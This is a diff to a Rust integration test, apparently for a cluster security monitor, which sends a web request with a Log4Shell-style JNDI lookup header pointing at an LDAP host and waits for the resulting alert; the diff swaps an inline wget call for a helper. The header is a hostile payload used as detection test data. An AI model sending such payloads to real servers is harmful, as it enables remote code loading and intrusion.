@@ -222,16 +222,7 @@ fn daemon_set_sees_an_attack_with_what_it_asks_for() -> Result<()> {
 
     let url = format!("http://{}/hostname", web.ipv4());
     let header = "X-Api: ${jndi:ldap://10.0.0.9/a}";
-    attacker.exec(&[
-        "busybox",
-        "wget",
-        "-q",
-        "-O",
-        "/dev/null",
-        "--header",
-        header,
-        &url,
-    ])?;
+    attacker.ask(&url, header)?;
     let alert = wait_for("the alert", LIMIT, || {
         let events = said(&files[0]);
         let mut events = events.lines().filter_map(Event::parse);
